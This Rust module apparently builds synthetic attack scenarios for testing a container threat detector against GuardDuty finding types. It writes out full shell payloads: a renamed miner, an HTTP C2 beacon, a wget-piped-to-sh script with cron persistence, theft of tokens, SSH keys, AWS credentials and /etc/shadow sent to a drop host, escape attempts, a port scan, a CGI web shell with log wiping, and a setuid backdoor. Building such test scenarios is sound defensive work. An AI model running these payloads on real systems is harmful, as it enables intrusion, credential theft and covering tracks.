//! Attacks that no threat-intel list gives away: no known pool, C2 name, tool name or miner
//! option — what is left to find them is behaviour. They reach the container three ways:
//! command injection in the web app (as the classic attacks do: httpd → awk → sh), `runc exec`
//! with stolen cluster credentials (`kubectl exec`: the shell's parent is the runtime, not a
//! server), and a compromised dependency (the container's own process starts the payload
//! later in its life, with no request and no exec from outside).
//!
//! The expected findings of each are the GuardDuty types whose definitions the attack meets
//! (DETECTIONS.md) — decided from what it does, not from what analyze reports.

use std::fmt::Write as _;
use std::net::Ipv4Addr;

use super::rng::Rng;
use super::scenario::{
    self, Ctx, Injection, Listener, Plan, resolve, script_body, url_encode, words,
};

/// The stealth attack types and the findings (GuardDuty names) each must produce by
/// definition. An empty list: no GuardDuty runtime finding is defined for it; it must still
/// rank above every benign container.
pub const STEALTH: &[(&str, &[&str])] = &[
    ("masq-miner", &["Execution:Runtime/NewBinaryExecuted"]),
    ("slow-beacon", &[]),
    ("curl-pipe-sh", &["Persistence:Runtime/SuspiciousCommand"]),
    ("cred-harvest", &["Discovery:Runtime/SuspiciousCommand"]),
    ("escape-attempt", &[]),
    ("port-scan", &[]),
    ("log-tamper", &[]),
    ("setuid-backdoor", &["Execution:Runtime/NewBinaryExecuted"]),
];

/// Names of domains no list holds: a private pool, a C2, a drop host.
fn private_domain(rng: &mut Rng, kind: &str) -> String {
    let region = words(rng, &["eu", "us", "ap", "sa"]);
    let base = match kind {
        "pool" => words(
            rng,
            &[
                "cloudsvc-metrics.net",
                "edge-telemetry.io",
                "api-sync.cloud",
            ],
        ),
        "c2" => words(
            rng,
            &["cdn-static-assets.com", "update-check.net", "img-cache.io"],
        ),
        _ => words(
            rng,
            &["files-share.org", "backup-sync.net", "paste-store.io"],
        ),
    };
    format!("{region}{}-{}.{base}", rng.range(1, 9), rng.hex(4))
}

/// A stealth attack of type `kind` on a container (None for an unknown kind).
pub fn attack(rng: &mut Rng, ctx: &Ctx, kind: &str, ip: Ipv4Addr) -> Option<Plan> {
    let expected = STEALTH.iter().find(|(k, _)| *k == kind)?.1;
    let net = ctx.net;
    let a = net.addr;
    let h = net.http;
    let secs = ctx.seconds;
    let url = format!("/{}/{}", rng.hex(5), rng.hex(7));
    // Every delivery: the base container is ordinary; the payload lands 20–40 % into the run.
    let at = rng.range(secs / 5, secs * 2 / 5).max(3);
    let (mut p, payload, how) = match kind {
        // A miner renamed like a kernel thread or a daemon, in a hidden directory, with its pool
        // in a config file (no `-o pool:port`), on a private pool behind a non-mining port.
        "masq-miner" => {
            let mut p = scenario::web(rng, ctx, ip);
            let dir = words(
                rng,
                &[
                    "/var/lib/.dbus",
                    "/usr/lib/.cache",
                    "/var/tmp/.systemd-private",
                ],
            );
            let name = words(
                rng,
                &[
                    "kswapd0",
                    "ksoftirqd",
                    "systemd-journald",
                    "rsyslogd",
                    "irqbalance",
                ],
            );
            let pool = private_domain(rng, "pool");
            let port = *rng.pick(&[10443, 2087, 8989, 10128]);
            p.listen.push((port, Listener::Stratum));
            let rounds = (secs / 8).clamp(2, 30);
            let body = format!(
                "# a miner built from xmrig's source with its strings changed; pool in config.json\n\
                 cfg=$(/bin/cat {dir}/config.json); host={pool}; port={port}\n{}\n\
                 for r in $(/bin/seq 1 {rounds}); do\n\
                 (echo '{{\"id\":1,\"method\":\"login\",\"params\":{{\"login\":\"w1\",\"pass\":\"x\",\"agent\":\"cpu/2\"}}}}'; /bin/sleep 2; \
                 echo '{{\"id\":2,\"method\":\"submit\",\"params\":{{\"job_id\":\"1\",\"nonce\":\"a1b2\",\"result\":\"00\"}}}}'; /bin/sleep 2) | /bin/nc $ip $port > /dev/null\n\
                 i=0; while [ $i -lt 30000 ]; do i=$((i+1)); done\ndone",
                resolve("$host")
            );
            p.serve.push((url.clone(), script_body(&body)));
            let payload = format!(
                "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{name} http://{a}:{h}{url}; \
                 echo '{{\"url\":\"{pool}:{port}\"}}' > {dir}/config.json; /bin/chmod +x {dir}/{name}; {dir}/{name}"
            );
            (p, payload, "http")
        }
        // A compromised dependency in a worker: later in the container's life its own process
        // starts polling a C2 over plain HTTP every 10–20 s with the system's own tools.
        "slow-beacon" => {
            let base = words(rng, &["metrics-push", "log-shipper", "db-writer"]);
            let p = scenario::benign(rng, ctx, &base, ip);
            let c2 = private_domain(rng, "c2");
            let every = rng.range(10, 20);
            let rounds = (secs / every).clamp(2, 20);
            let id = rng.hex(8);
            let payload = format!(
                "for i in $(/bin/seq 1 {rounds}); do {}; cmd=$(/bin/wget -q -O- --header 'User-Agent: Go-http-client/1.1' http://$ip:{}/api/v2/check?id={id}); \
                 out=$(/bin/sh -c \"$cmd\" 2>&1 | /bin/head -c 1000); /bin/wget -q -O /dev/null --post-data \"$out\" http://$ip:{}/api/v2/report?id={id}; /bin/sleep {every}; done",
                resolve(&c2),
                net.c2,
                net.c2
            );
            (p, payload, "dependency")
        }
        // `kubectl exec` with stolen credentials: a fetched script piped to the shell looks
        // around, reads the service-account token and environment, plants a cron job that
        // re-downloads it, and ships what it found.
        "curl-pipe-sh" => {
            let base = words(rng, &["web", "db-writer", "ci-job"]);
            let mut p = scenario::benign(rng, ctx, &base, ip);
            let drop = private_domain(rng, "drop");
            let body = format!(
                "/bin/id; /bin/uname -a; /bin/cat /etc/os-release 2>/dev/null; /bin/ls -la /run/secrets/kubernetes.io/serviceaccount 2>/dev/null\n\
                 /bin/cat /run/secrets/kubernetes.io/serviceaccount/token > /tmp/.t 2>/dev/null; /bin/env > /tmp/.e\n\
                 /bin/mkdir -p /var/spool/cron/crontabs; (/bin/crontab -l 2>/dev/null; echo '*/5 * * * * /bin/wget -q -O- http://{a}:{h}{url} | /bin/sh') | /bin/crontab -\n\
                 {}\n/bin/cat /tmp/.t /tmp/.e | /bin/gzip | /bin/wget -q -O /dev/null --post-file=/dev/stdin http://$ip:{}/u/{}\n/bin/rm -f /tmp/.t /tmp/.e",
                resolve(&drop),
                net.drop,
                rng.hex(6)
            );
            p.serve.push((url.clone(), body.into_bytes()));
            p.files.push((
                "/run/secrets/kubernetes.io/serviceaccount/token".into(),
                format!("eyJhbGciOiJSUzI1NiJ9.{}.{}", rng.hex(40), rng.hex(40)).into_bytes(),
                0o644,
            ));
            let payload = format!("/bin/wget -q -O- http://{a}:{h}{url} | /bin/sh");
            (p, payload, "exec")
        }
        // Credential harvesting without `cat`: other processes' environments with dd, the
        // token with head, keys and cloud credentials with tar, shadow with base64; posted to
        // a host in no list.
        "cred-harvest" => {
            let mut p = scenario::web(rng, ctx, ip);
            let drop = private_domain(rng, "drop");
            p.files.push((
                "/root/.aws/credentials".into(),
                format!(
                    "[default]\naws_access_key_id = AKIA{}\naws_secret_access_key = {}\n",
                    rng.string("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
                    rng.hex(40)
                )
                .into_bytes(),
                0o600,
            ));
            p.files.push((
                "/root/.ssh/id_rsa".into(),
                format!(
                    "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
                    rng.hex(64)
                )
                .into_bytes(),
                0o600,
            ));
            let payload = format!(
                "/bin/mkdir -p /var/tmp; for q in /proc/[0-9]*; do /bin/dd if=$q/environ bs=4096 count=1 2>/dev/null; echo; done > /var/tmp/.e; \
                 /bin/head -c 4096 /run/secrets/kubernetes.io/serviceaccount/token >> /var/tmp/.e; \
                 /bin/base64 /etc/shadow >> /var/tmp/.e; /bin/tar -czf /var/tmp/.k.tgz /root/.ssh /root/.aws /var/tmp/.e 2>/dev/null; \
                 {}; /bin/wget -q -O /dev/null --post-file=/var/tmp/.k.tgz http://$ip:{}/in/{}; /bin/rm -f /var/tmp/.e /var/tmp/.k.tgz",
                resolve(&drop),
                net.drop,
                rng.hex(6)
            );
            (p, payload, "http")
        }
        // `kubectl exec`, then the moves of a container escape, all of which fail in an
        // unprivileged container: enter PID 1's namespaces, mount the host's disk, the cgroup
        // release_agent trick, core_pattern, a user namespace, the runtime socket.
        "escape-attempt" => {
            let base = words(rng, &["web", "ci-job", "log-shipper"]);
            let p = scenario::benign(rng, ctx, &base, ip);
            let payload = "/bin/cat /proc/1/cgroup /proc/self/mountinfo > /dev/null; /bin/ls -la /var/run/docker.sock /run/containerd 2>/dev/null; \
                 /bin/nsenter -t 1 -m -u -i -n -p /bin/sh -c /bin/id; /bin/mkdir -p /tmp/.h /tmp/.cg; \
                 /bin/mount /dev/vda /tmp/.h; /bin/mount -t ext4 /dev/sda1 /tmp/.h; \
                 /bin/mount -t cgroup -o rdma cgroup /tmp/.cg && echo 1 > /tmp/.cg/notify_on_release; \
                 echo '|/tmp/.h/x' > /proc/sys/kernel/core_pattern; /bin/unshare -U -r -m /bin/sh -c /bin/id; \
                 /bin/ls /sys/fs/cgroup > /dev/null"
                .to_owned();
            (p, payload, "exec")
        }
        // Injected into the web app: a scan of the neighbourhood (the pod network here: the
        // lab's loopback block) on common service ports — most refused.
        "port-scan" => {
            let p = scenario::web(rng, ctx, ip);
            let [_, b, c, _] = a.octets();
            let first = rng.range(5, 15);
            let hosts = rng.range(8, 14);
            let mut ports = String::new();
            for port in [
                21, 22, 23, 25, 80, 443, 2375, 3306, 5432, 6379, 8080, 9200, 10250, 27017,
            ] {
                let _ = write!(ports, " {port}");
            }
            let payload = format!(
                "for x in $(/bin/seq {first} {}); do for port in{ports}; do \
                 echo | /bin/nc -w 1 127.{b}.{c}.$x $port > /dev/null 2>&1 && echo 127.{b}.{c}.$x:$port >> /tmp/.open; done; done; \
                 /bin/cat /tmp/.open 2>/dev/null | /bin/head -n 5 > /dev/null",
                first + hosts
            );
            (p, payload, "http")
        }
        // Injected into the web app: a web shell left behind, then the tracks covered: shell
        // history removed, the access log truncated, rotated logs deleted, the web shell's and
        // the log's times reset to an old file's.
        "log-tamper" => {
            let p = scenario::web(rng, ctx, ip);
            let shell = words(rng, &[".status", ".health.cgi", "ping.cgi"]);
            let payload = format!(
                "printf '#!/bin/sh\\necho; /bin/sh -c \"$QUERY_STRING\" 2>&1\\n' > /var/www/cgi-bin/{shell}; /bin/chmod 755 /var/www/cgi-bin/{shell}; \
                 /bin/touch -r /var/www/index.html /var/www/cgi-bin/{shell}; \
                 /bin/rm -f /root/.ash_history /root/.bash_history /home/*/.ash_history; \
                 for f in /var/log/*/access.log; do : > $f; /bin/touch -r /etc/hostname $f; done; \
                 /bin/rm -f /var/log/*/*.gz; /bin/truncate -s 0 /var/log/*/access.log 2>/dev/null"
            );
            (p, payload, "http")
        }
        // `kubectl exec`, then a setuid copy of the shell tool left in a hidden directory, run.
        "setuid-backdoor" => {
            let base = words(rng, &["web", "db-writer", "metrics-push"]);
            let p = scenario::benign(rng, ctx, &base, ip);
            let dir = words(
                rng,
                &["/var/tmp/.cache", "/usr/local/lib/.x", "/tmp/.font-unix"],
            );
            let payload = format!(
                "/bin/mkdir -p {dir}; /bin/cp /bin/busybox {dir}/busybox; /bin/chmod 4755 {dir}/busybox; \
                 /bin/chmod g+s {dir}/busybox; {dir}/busybox sh -c '/bin/id; /bin/ls -la {dir}' > /dev/null"
            );
            (p, payload, "exec")
        }
        _ => return None,
    };
    p.scenario = kind.into();
    p.label = "attack";
    p.expected = expected.iter().map(|s| s.to_string()).collect();
    match how {
        "http" => {
            let injected = format!("127.0.0.1; ({payload}) < /dev/null > /dev/null 2>&1 &");
            p.injection = Some((
                at,
                Injection::Http(format!("/cgi-bin/resolve?host={}", url_encode(&injected))),
            ));
        }
        "exec" => {
            p.injection = Some((
                at,
                Injection::Exec(format!("({payload}) > /dev/null 2>&1 &")),
            ))
        }
        // The container's own init starts it after a while: no request, no exec from outside.
        _ => {
            p.script = format!(
                "(/bin/sleep {at}; {payload}) > /dev/null 2>&1 & {}",
                p.script
            );
        }
    }
    Some(p)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::scenario::Net;

    #[test]
    fn every_stealth_attack_is_delivered_and_names_no_listed_host() {
        let net = Net::new(Ipv4Addr::new(127, 9, 9, 1), &mut Rng::new(1, 0));
        let targets = [Ipv4Addr::new(127, 9, 9, 10)];
        let ctx = Ctx {
            net: &net,
            seconds: 60,
            web_targets: &targets,
            busybox_url: "/bb",
            implant_url: Some("/im"),
            implant: None,
        };
        let intel = |name: &str| {
            std::fs::read_to_string(format!(
                "{}/../models/intel/{name}.txt",
                env!("CARGO_MANIFEST_DIR")
            ))
            .expect(name)
        };
        let listed: Vec<String> = ["mining_pool_domains", "c2_domains", "malicious_domains"]
            .iter()
            .flat_map(|l| {
                intel(l)
                    .lines()
                    .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
                    .map(|l| l.trim().to_owned())
                    .collect::<Vec<_>>()
            })
            .collect();
        for seed in 1..6 {
            let mut rng = Rng::new(seed, 0);
            for (kind, _) in STEALTH {
                let p = attack(&mut rng, &ctx, kind, Ipv4Addr::new(127, 9, 9, 12)).expect(kind);
                assert_eq!(p.label, "attack");
                let text = format!("{:?} {} {:?}", p.injection, p.script, p.serve);
                assert!(
                    p.injection.is_some() || p.script.starts_with("(/bin/sleep"),
                    "{kind}: never delivered"
                );
                for d in &listed {
                    assert!(!text.contains(d.as_str()), "{kind} names listed host {d}");
                }
            }
        }
        assert!(attack(&mut Rng::new(1, 0), &ctx, "nope", Ipv4Addr::LOCALHOST).is_none());
    }
}
